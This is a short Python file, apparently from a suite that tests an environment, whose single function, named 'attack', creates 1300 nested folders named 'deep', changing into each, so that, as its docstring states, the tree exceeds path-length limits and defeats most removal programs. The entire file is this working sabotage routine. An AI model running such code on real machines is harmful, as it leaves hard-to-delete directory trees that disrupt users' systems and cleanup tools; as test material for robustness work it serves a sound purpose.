"""Makes folders deeper than a path may be long and than most programs that remove them can go."""

import os


def attack(facts: dict[str, str]) -> None:
    for _ in range(1300):
        os.mkdir("deep")
        os.chdir("deep")
